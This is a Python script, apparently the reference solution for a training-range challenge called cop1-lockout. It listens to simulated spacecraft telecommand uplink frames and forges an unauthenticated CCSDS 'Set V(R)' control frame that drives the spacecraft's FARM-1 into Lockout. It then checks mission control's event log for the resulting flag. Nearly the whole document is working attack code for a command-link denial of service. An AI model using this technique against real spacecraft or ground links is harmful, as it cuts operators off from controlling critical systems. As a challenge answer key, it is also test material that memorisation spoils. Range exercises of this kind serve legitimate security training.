"""Reference attack for cop1-lockout: run on the attacker workstation, as the student.

1. Listen on the uplink air (UDP 5101 on the rf segment: the rf-link broadcasts every
   uplink frame there): each type-AD frame's header gives the SCID, the virtual channel
   and N(S); the station's next frame will carry N(S) + 1. The frame's data is
   authenticated (SDLS); its header is not secret.
2. Transmit a clear BC frame *Set V(R)* to rf-link:5100 that puts FARM-1's V(R) half the
   sequence space away from the station's next N(S). The spacecraft accepts control
   commands without SDLS, so its V(R) moves. When the station's next authenticated frame
   arrives, it lies outside FARM-1's window: FARM-1 enters Lockout and refuses every AD
   frame until an Unlock.
3. Timing: the station's FOP-1 reads FARM-1's reports (CLCW) and, after a few that are
   out of step, stops and re-initiates the link itself (Set V(R)): the directive must come
   shortly before the station's next frame. A patient attacker learns when routine
   commands go out (every 15 s here); to be quick, this script asks mission control for a
   PING with the student's own account right after its directive.
4. The evidence: the spacecraft's fault detection reports the lockout (FARM_LOCKOUT) with
   a reference, in mission control's event log; read it with the student's own account.

Exit status 0 when the spacecraft reported a lockout quoting the reference, 2 when no
uplink frame was heard, 3 when no such FARM_LOCKOUT event came.
"""

from __future__ import annotations

import re
import socket
import sys
import time

from labctl.protocols.tc_frame import FrameKind, TcFrame, set_vr_frame
from labctl.range import wiring
from labctl.range.missionclient import MissionControl, MissionControlError

LISTEN_S = 45.0
TRIES = 3
RF_LINK = (wiring.RF_LINK, wiring.UPLINK_IN)
HALF_SPACE = 128
REFERENCE = re.compile(r"LOCKOUT\{[0-9a-f]+\}")


class Air:
    """The uplink air: what the station sends, and our own transmitter."""

    def __init__(self) -> None:
        self.rx = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.rx.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.rx.bind(("", wiring.UPLINK_AIR))
        self.tx = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.last: TcFrame | None = None  # the newest AD frame heard

    def listen(self, seconds: float) -> None:
        """Note every AD frame heard for ``seconds``."""
        deadline = time.monotonic() + seconds
        while (left := deadline - time.monotonic()) > 0:
            self.rx.settimeout(left)
            try:
                frame = TcFrame.decode(self.rx.recv(2048))
            except TimeoutError:
                return
            except ValueError:
                continue
            if frame.kind is FrameKind.AD:
                self.last = frame

    def force_lockout(self) -> int:
        """A clear Set V(R) half the sequence space away from the station's next N(S)."""
        assert self.last is not None
        frame = self.last
        vr = (frame.seq + 1 + HALF_SPACE) % 256
        self.tx.sendto(set_vr_frame(frame.scid, frame.vcid, vr).encode(), RF_LINK)
        return vr


def last_event_id(mc: MissionControl) -> int:
    """The newest event's id in mission control's log (0 when empty)."""
    events = mc.request("GET", "/api/events?limit=1")["events"]
    return int(events[0]["id"]) if events else 0


def evidence(mc: MissionControl, after: int, seconds: float) -> str | None:
    """The reference quoted by a FARM_LOCKOUT event newer than event ``after``."""
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        for event in mc.request("GET", "/api/events?limit=50")["events"]:
            found = REFERENCE.search(event.get("aux_text") or "")
            if event["id"] > after and event["name"] == "FARM_LOCKOUT" and found:
                return found.group(0)
        time.sleep(1.0)
    return None


def main() -> int:
    air = Air()
    try:
        mc = MissionControl.from_file()
        before = last_event_id(mc)
        print(f"listening on the uplink air (UDP {wiring.UPLINK_AIR})...", flush=True)
        for _attempt in range(TRIES):
            heard_by = time.monotonic() + LISTEN_S
            air.last = None
            while air.last is None and time.monotonic() < heard_by:
                air.listen(0.5)
            if air.last is None:
                print("no uplink frame heard")
                return 2
            air.listen(1.0)  # the rest of a burst: the newest N(S)
            last = air.last
            vr = air.force_lockout()
            mc.request("POST", "/api/commands", {"name": "PING", "args": {}})
            print(
                f"heard N(S)={last.seq} SCID={last.scid} VC={last.vcid}; sent clear"
                f" Set V(R)={vr}, then a PING from mission control",
                flush=True,
            )
            reference = evidence(mc, before, 15.0)
            if reference is not None:
                print(f"FARM_LOCKOUT event quotes {reference}: the station is locked out")
                return 0
    except MissionControlError as exc:
        print(f"mission control: {exc}")
        return 3
    print("no FARM_LOCKOUT event: the forged Set V(R) did not lock the station out")
    return 3


if __name__ == "__main__":
    sys.exit(main())
